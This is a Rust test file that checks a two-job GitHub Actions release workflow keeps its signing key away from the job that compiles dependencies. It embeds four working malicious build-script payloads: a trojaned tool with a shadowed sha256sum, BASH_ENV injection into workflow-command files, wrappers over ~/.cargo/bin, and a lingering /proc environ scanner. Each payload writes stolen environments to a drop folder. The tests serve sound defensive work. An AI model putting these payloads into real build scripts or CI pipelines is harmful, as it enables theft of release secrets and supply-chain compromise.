//! The workflow `new` writes, run job by job on separate simulated machines
//! (`support::runner`): a tag builds in the `build` job, which holds no
//! secret, and signs, attests and releases in the `release` job, which runs
//! no code of the crate. Then the attacks a dependency's build script can
//! make on the job it runs in, each planted in a real `build.rs` and run
//! twice: once against a job that also holds the key (the layout this
//! workflow replaced), where it must get the key, so the attack is real,
//! and once against the two jobs, where the key appears nowhere the build
//! job could read.

#![cfg(unix)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use serde_json::Value;
use serde_yaml::Value as Yaml;

use crate::support::runner::{Event, GitHub, Job, WorkflowRun, files_under, sha256_hex};
use crate::support::{GIT_IDENTITY, cmd, copy_dir, encodings, git};
use cargo_palyra_skill::signing::SecretKey;

const REPO: &str = env!("CARGO_MANIFEST_DIR");

/// This action at a commit, as a repository the workflow fetches it from
/// (made once per test process): `action.yml` and what its set-up step
/// hashes and its install step reads.
fn action_repository() -> &'static (PathBuf, String) {
    static ACTION: OnceLock<(PathBuf, String)> = OnceLock::new();
    ACTION.get_or_init(|| {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("action-repo-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        for file in ["action.yml", "Cargo.toml", "Cargo.lock"] {
            std::fs::copy(Path::new(REPO).join(file), dir.join(file)).unwrap();
        }
        for folder in ["src", "templates"] {
            copy_dir(&Path::new(REPO).join(folder), &dir.join(folder));
        }
        git(&dir, &["init", "-q"]);
        git(&dir, &["add", "-A"]);
        git(&dir, &["commit", "-qm", "action"]);
        let sha =
            std::process::Command::new("git").args(["rev-parse", "HEAD"]).current_dir(&dir).output().unwrap();
        (dir, String::from_utf8(sha.stdout).unwrap().trim().to_owned())
    })
}

/// The release key of these runs: a fresh one, so that no byte of it is in
/// this repository's sources (which the action's checkout holds).
fn release_key() -> SecretKey {
    static SEED: OnceLock<String> = OnceLock::new();
    let seed = SEED.get_or_init(|| hex::encode(*SecretKey::generate().unwrap().seed()));
    SecretKey::decode(seed.as_bytes()).unwrap()
}

/// A build script's attack, as shell: `@DROP@` is where it sends what it
/// finds (the network, to the test).
const BUILD_RS: &str = r#"
fn main() {
    // Every machine builds afresh, as a new runner would.
    println!("cargo:rerun-if-env-changed=HOME");
    println!("cargo:rerun-if-changed=attack.sh");
    let script = std::path::Path::new(&std::env::var_os("CARGO_MANIFEST_DIR").unwrap()).join("attack.sh");
    let _ = std::process::Command::new("bash")
        .arg(script)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status();
}
"#;

/// Attack 1: shadow `sha256sum` in `~/.cargo/bin` (first on PATH) with one
/// that prints the hash recorded at install, and replace the tool with a
/// trojan that sends away its environment.
const SHADOW_SHA256SUM: &str = r#"
bin="$HOME/.cargo/bin"
recorded=$(cut -d' ' -f2 "$bin/.cargo-palyra-skill.key" 2>/dev/null)
printf '#!/bin/sh\necho "%s  $1"\n' "$recorded" > "$bin/sha256sum"
chmod 755 "$bin/sha256sum"
mkdir -p "$HOME/.stash"
# Once: the build script runs again for each profile the job builds.
[ -e "$HOME/.stash/real-tool" ] && exit 0
cp "$bin/cargo-palyra-skill" "$HOME/.stash/real-tool"
# The tool is running (it started this build): unlink it, then write anew.
rm -f "$bin/cargo-palyra-skill"
printf '#!/bin/sh\nenv > "@DROP@/trojan-$$"\nexec "%s" "$@"\n' "$HOME/.stash/real-tool" > "$bin/cargo-palyra-skill"
chmod 755 "$bin/cargo-palyra-skill"
"#;

/// Attack 2: append `BASH_ENV=` (and `LD_PRELOAD=`) to every
/// workflow-command file of the job: every later bash step runs the script
/// first.
const FILE_COMMANDS: &str = r#"
printf 'env > "@DROP@/bash-env-$$"\n' > "$HOME/.evil-bash-env"
for file in "$RUNNER_TEMP"/_runner_file_commands/*; do
  printf 'BASH_ENV=%s\nLD_PRELOAD=\n' "$HOME/.evil-bash-env" >> "$file"
done
"#;

/// Attack 3: replace everything in `~/.cargo/bin` (rustup's proxies, the
/// tool) with a wrapper that sends away its environment.
const REPLACE_CARGO_BIN: &str = r#"
bin="$HOME/.cargo/bin"
mkdir -p "$HOME/.stash"
for file in "$bin"/*; do
  name=$(basename "$file")
  # Once: the build script runs again for each profile the job builds.
  [ -e "$HOME/.stash/$name" ] && continue
  cp -P "$file" "$HOME/.stash/$name"
  rm -f "$file"
  printf '#!/bin/sh\nenv > "@DROP@/wrapped-%s-$$"\nexec "%s" "$@"\n' "$name" "$HOME/.stash/$name" > "$file"
  chmod 755 "$file"
done
"#;

/// Attack 4: leave a process behind that waits for a key to appear in any
/// process's environment (at most 60 s).
const LINGER: &str = r#"
touch "@DROP@/watcher-started"
nohup setsid bash -c '
  for i in $(seq 1200); do
    for environ in /proc/[0-9]*/environ; do
      tr "\0" "\n" < "$environ" 2>/dev/null | grep -a "SIGNING_KEY=." >> "@DROP@/watched" 2>/dev/null
    done
    sleep 0.05
  done' > /dev/null 2>&1 < /dev/null &
"#;

/// A skill as `new` makes it, published as `acme/weather`, with the workflow
/// pointed at this action's repository, a dependency `helper` whose build
/// script runs `attack` (if any), committed and tagged `v0.1.0`.
fn skill_repository(dir: &Path, attack: Option<&str>, drop: &Path) -> (PathBuf, String) {
    let source = dir.join("weather");
    cmd().args(["-q", "new", "--publisher", "acme"]).arg(&source).envs(GIT_IDENTITY).assert().success();
    let (action_dir, action_sha) = action_repository();
    let workflow_path = source.join(".github/workflows/skill.yml");
    let workflow = std::fs::read_to_string(&workflow_path).unwrap();
    let workflow = set_env_line(&workflow, "PALYRA_SKILL_REPOSITORY", &action_dir.display().to_string());
    let workflow = set_env_line(&workflow, "PALYRA_SKILL_ACTION_SHA", action_sha);
    std::fs::write(&workflow_path, workflow).unwrap();
    if let Some(attack) = attack {
        let helper = source.join("helper");
        std::fs::create_dir_all(helper.join("src")).unwrap();
        std::fs::write(
            helper.join("Cargo.toml"),
            "[package]\nname = \"helper\"\nversion = \"0.1.0\"\nedition = \"2024\"\nbuild = \"build.rs\"\n",
        )
        .unwrap();
        std::fs::write(helper.join("src/lib.rs"), "#![no_std]\n").unwrap();
        std::fs::write(helper.join("build.rs"), BUILD_RS).unwrap();
        std::fs::write(helper.join("attack.sh"), attack.replace("@DROP@", &drop.display().to_string()))
            .unwrap();
        let manifest = source.join("Cargo.toml");
        let text = std::fs::read_to_string(&manifest).unwrap();
        std::fs::write(
            &manifest,
            text.replace("[dependencies]\n", "[dependencies]\nhelper = { path = \"helper\" }\n"),
        )
        .unwrap();
        let locked = std::process::Command::new("cargo")
            .args(["metadata", "--offline", "--format-version", "1"])
            .current_dir(&source)
            .output()
            .unwrap();
        assert!(locked.status.success(), "{}", String::from_utf8_lossy(&locked.stderr));
    }
    git(&source, &["add", "-A"]);
    git(&source, &["commit", "-qm", "release 0.1.0"]);
    git(&source, &["tag", "v0.1.0"]);
    let sha =
        std::process::Command::new("git").args(["rev-parse", "HEAD"]).current_dir(&source).output().unwrap();
    (source, String::from_utf8(sha.stdout).unwrap().trim().to_owned())
}

/// The workflow with `  NAME: "…"` under `env:` set to `value`.
fn set_env_line(workflow: &str, name: &str, value: &str) -> String {
    let prefix = format!("  {name}: ");
    let mut found = false;
    let text: Vec<String> = workflow
        .lines()
        .map(|line| {
            if line.starts_with(&prefix) {
                found = true;
                format!("{prefix}\"{value}\"")
            } else {
                line.to_owned()
            }
        })
        .collect();
    assert!(found, "the workflow sets no {name}");
    text.join("\n") + "\n"
}

fn workflow_of(source: &Path) -> Yaml {
    serde_yaml::from_str(&std::fs::read_to_string(source.join(".github/workflows/skill.yml")).unwrap())
        .unwrap()
}

fn tag_run<'a>(github: &'a GitHub, workflow: Yaml, sha: &str) -> WorkflowRun<'a> {
    WorkflowRun {
        github,
        workflow,
        event: Event {
            name: "push".into(),
            git_ref: "refs/tags/v0.1.0".into(),
            sha: sha.into(),
            base_ref: None,
        },
        secrets: BTreeMap::from([(
            "PALYRA_SKILL_SIGNING_KEY".to_owned(),
            hex::encode(*release_key().seed()),
        )]),
        vars: BTreeMap::new(),
        machine_env: vec![(
            "CARGO_TARGET_DIR".into(),
            Path::new(REPO).join("target/tmp/workflow-target").display().to_string(),
        )],
        run_id: 4242,
    }
}

/// Whether `haystack` holds the test key: raw, or any 24 characters of its
/// hex, base64 or PEM encodings (`partly`), or a whole encoding.
fn holds_key(haystack: &[u8], partly: bool) -> bool {
    let key = release_key();
    if haystack.windows(32).any(|w| w == key.seed().as_slice()) {
        return true;
    }
    let text = String::from_utf8_lossy(haystack);
    encodings(&key).iter().any(|encoding| {
        if !partly {
            return text.contains(encoding.as_str());
        }
        (0..=encoding.len().saturating_sub(24)).any(|start| text.contains(&encoding[start..start + 24]))
    })
}

/// The files under `dir` that hold the key (small ones checked for any part
/// of it, the tool's binary for a whole encoding).
fn files_holding_key(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    files_under(dir, &mut files);
    files
        .into_iter()
        .filter(|f| std::fs::read(f).is_ok_and(|bytes| holds_key(&bytes, bytes.len() < 1 << 20)))
        .collect()
}

/// Everything the build job could read: its machine and what it printed,
/// and what its code sent away.
fn assert_build_job_never_held_the_key(build: &Job, drop: &Path) {
    assert!(!holds_key(&build.log, true), "the key is in the build job's log");
    let leaked = files_holding_key(&build.machine.root);
    assert!(leaked.is_empty(), "the key is on the build machine: {leaked:?}");
    let sent = files_holding_key(drop);
    assert!(sent.is_empty(), "build code sent the key away: {sent:?}");
}

#[test]
fn a_tag_builds_without_secrets_and_signs_attests_and_releases_in_another_job() {
    let dir = tempfile::tempdir().unwrap();
    let drop = dir.path().join("unused-drop");
    let (source, sha) = skill_repository(dir.path(), None, &drop);
    let github = GitHub::new("acme/weather", &source);
    let jobs = tag_run(&github, workflow_of(&source), &sha).run(&["build", "release"]);
    let (build, release) = (&jobs["build"], &jobs["release"]);
    assert!(build.succeeded(), "build: {:?}\n{}", build.failed, build.log_text());
    assert!(release.succeeded(), "release: {:?}\n{}", release.failed, release.log_text());

    // The build job: unsigned, its tool installed from the release (checked
    // against SHA256SUMS and the tool's attestation), no key anywhere.
    let version = env!("CARGO_PKG_VERSION");
    for job in [build, release] {
        let log = job.log_text();
        assert!(
            log.contains(&format!("cargo-palyra-skill {version} installed from release v{version}")),
            "{log}"
        );
        assert!(log.contains("GitHub build attestation of palyra-skill/cargo-palyra-skill"), "{log}");
    }
    assert_eq!(build.steps["skill"]["key-id"], "", "the build job builds unsigned");
    assert_build_job_never_held_the_key(build, &github.drop);
    assert!(!drop.exists());

    // The release job compiled nothing: no crate was checked out and no
    // target directory exists on its machine.
    assert!(!release.machine.workspace.join("Cargo.toml").exists());
    let mut files = Vec::new();
    files_under(&release.machine.root, &mut files);
    assert!(!files.iter().any(|f| f.components().any(|c| c.as_os_str() == "target")), "{files:?}");
    let log = release.log_text();
    assert!(!log.contains("Compiling"), "{log}");

    // What the release holds: the signed artifact, its DSSE provenance and
    // GitHub's attestation, which verify together.
    let name = "acme.weather-0.1.0.palyra-skill";
    let files = github.release_files("v0.1.0");
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [name.to_owned(), format!("{name}.intoto.jsonl"), format!("{name}.sigstore.json")]
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>()
    );
    let out = dir.path().join("downloaded");
    std::fs::create_dir_all(&out).unwrap();
    for (file, bytes) in &files {
        std::fs::write(out.join(file), bytes).unwrap();
    }
    let root = dir.path().join("trusted_root.json");
    std::fs::write(&root, github.trusted_root()).unwrap();
    let verified = cmd()
        .args([
            "verify",
            "--trusted-publisher",
            &format!("acme={}", release_key().public().to_hex()),
            "--message-format",
            "json",
        ])
        .arg(out.join(name))
        .arg("--attestation")
        .arg(out.join(format!("{name}.sigstore.json")))
        .args(["--repo", "acme/weather", "--trusted-root"])
        .arg(&root)
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&verified.stdout).unwrap();
    assert!(verified.status.success(), "{report:#}\n{}", String::from_utf8_lossy(&verified.stderr));
    assert_eq!(report["artifacts"][0]["accepted"], true, "{report:#}");

    // The bytes the build job uploaded are the payload the release signed.
    let uploaded = github.dir.path().join("artifacts/unsigned-skill").join(name);
    let inspect = |path: &Path| -> Value {
        let out = cmd().args(["inspect", "--message-format", "json"]).arg(path).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let (unsigned, signed) = (inspect(&uploaded), inspect(&out.join(name)));
    assert!(unsigned["signature"].is_null(), "the uploaded artifact is unsigned: {unsigned:#}");
    assert_eq!(unsigned["payload_sha256"], signed["payload_sha256"], "{unsigned:#}\n{signed:#}");
    assert_ne!(sha256_hex(&std::fs::read(&uploaded).unwrap()), sha256_hex(&files[name]));
}

/// A private repository (on a plan where GitHub does not attest it)
/// releases without the attestation step, and the summary says so.
#[test]
fn a_private_repository_releases_without_an_attestation_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let (source, sha) = skill_repository(dir.path(), None, &dir.path().join("unused-drop"));
    let mut github = GitHub::new("acme/weather", &source);
    github.private = true;
    let jobs = tag_run(&github, workflow_of(&source), &sha).run(&["build", "release"]);
    let release = &jobs["release"];
    assert!(release.succeeded(), "release: {:?}\n{}", release.failed, release.log_text());
    assert!(release.summary.contains("### Build attestation skipped"), "{}", release.summary);
    assert!(release.summary.contains(
        "The release of this private repository carries no GitHub build attestation (`.sigstore.json`)"
    ));
    let files = github.release_files("v0.1.0");
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(names, ["acme.weather-0.1.0.palyra-skill", "acme.weather-0.1.0.palyra-skill.intoto.jsonl"]);
}

/// #35 item 1 under the Action, which builds `--locked`: a version bumped
/// and tagged without its lock file fails the build job before cargo
/// builds, with the fix, not cargo's "remove the --locked flag".
#[test]
fn a_version_bump_tagged_without_its_lock_file_names_the_fix_in_the_build_job() {
    let dir = tempfile::tempdir().unwrap();
    let (source, _) = skill_repository(dir.path(), None, &dir.path().join("unused-drop"));
    let manifest = source.join("Cargo.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    assert!(text.contains("version = \"0.1.0\""), "{text}");
    std::fs::write(&manifest, text.replacen("version = \"0.1.0\"", "version = \"0.2.0\"", 1)).unwrap();
    git(&source, &["commit", "-qam", "release 0.2.0"]);
    git(&source, &["tag", "v0.2.0"]);
    let sha =
        std::process::Command::new("git").args(["rev-parse", "HEAD"]).current_dir(&source).output().unwrap();
    let sha = String::from_utf8(sha.stdout).unwrap().trim().to_owned();
    let github = GitHub::new("acme/weather", &source);
    let mut run = tag_run(&github, workflow_of(&source), &sha);
    run.event.git_ref = "refs/tags/v0.2.0".into();
    let jobs = run.run(&["build"]);
    let build = &jobs["build"];
    let log = build.log_text();
    assert!(!build.succeeded(), "{log}");
    assert!(log.contains("commit Cargo.lock after changing the version (`cargo update -w`)"), "{log}");
    assert!(log.contains("is 0.2.0, `Cargo.lock` has 0.1.0)"), "{log}");
    assert!(!log.contains("remove the --locked flag"), "{log}");
    assert!(!log.contains("Compiling"), "{log}");
}

/// The attacks, each run against one job that also holds the key (it must
/// get it: the attack is real) and against the workflow's two jobs (the key
/// is nowhere the build job could read, and the attack still fired there).
fn attack(script: &str, fired: &str) {
    let dir = tempfile::tempdir().unwrap();
    let drop = dir.path().join("drop");
    std::fs::create_dir_all(&drop).unwrap();
    let (source, sha) = skill_repository(dir.path(), Some(script), &drop);

    // One job: the build job, then a step that holds the key and runs the
    // installed tool, as the sign step of a one-job layout did (checking the
    // tool's SHA-256 against the one recorded at install).
    let mut one_job = workflow_of(&source);
    let steps = one_job["jobs"]["build"]["steps"].as_sequence_mut().unwrap();
    let sign_step: Yaml = serde_yaml::from_str(&format!(
        r#"
env:
  PALYRA_SKILL_SIGNING_KEY: ${{{{ secrets.PALYRA_SKILL_SIGNING_KEY }}}}
run: |
  tool=$(command -v cargo-palyra-skill)
  recorded=$(cut -d' ' -f2 "$HOME/.cargo/bin/.cargo-palyra-skill.key")
  sha256() {{ if command -v sha256sum >/dev/null; then sha256sum "$1"; else shasum -a 256 "$1"; fi | cut -d' ' -f1; }}
  if [ "$(sha256 "$tool")" = "$recorded" ]; then "$tool" --version; else echo "the tool changed since it was installed"; fi
  # A later step with a secret that runs cargo (a publish, say).
  cargo --version
  # As long as a signing step takes: a process left behind can read it.
  for i in $(seq 200); do [ -s "{drop}/watched" ] && break; sleep 0.05; done
"#,
        drop = drop.display()
    ))
    .unwrap();
    steps.push(sign_step);
    let github = GitHub::new("acme/weather", &source);
    let jobs = tag_run(&github, one_job, &sha).run(&["build"]);
    let log = jobs["build"].log_text();
    assert!(jobs["build"].ran, "{log}");
    let stolen = files_holding_key(&drop);
    assert!(!stolen.is_empty(), "with the key in the job that builds, the attack gets it:\n{log}");
    drop_contents(&drop);

    // The two jobs.
    let github = GitHub::new("acme/weather", &source);
    let jobs = tag_run(&github, workflow_of(&source), &sha).run(&["build", "release"]);
    let (build, release) = (&jobs["build"], &jobs["release"]);
    assert!(release.succeeded(), "release: {:?}\n{}", release.failed, release.log_text());
    let sent: Vec<String> = std::fs::read_dir(&drop)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(sent.iter().any(|name| name.starts_with(fired)), "the attack fired in the build job: {sent:?}");
    assert_build_job_never_held_the_key(build, &drop);
    assert!(github.release_files("v0.1.0").contains_key("acme.weather-0.1.0.palyra-skill"));
}

fn drop_contents(dir: &Path) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        std::fs::remove_file(entry.path()).unwrap();
    }
}

#[test]
fn a_build_script_that_shadows_sha256sum_and_replaces_the_tool_never_gets_the_key() {
    attack(SHADOW_SHA256SUM, "trojan-");
}

#[test]
fn a_build_script_that_writes_to_the_workflow_command_files_never_gets_the_key() {
    attack(FILE_COMMANDS, "bash-env-");
}

#[test]
fn a_build_script_that_replaces_everything_in_cargo_bin_never_gets_the_key() {
    attack(REPLACE_CARGO_BIN, "wrapped-");
}

#[test]
fn a_process_a_build_script_leaves_behind_never_sees_the_key() {
    attack(LINGER, "watcher-started");
}
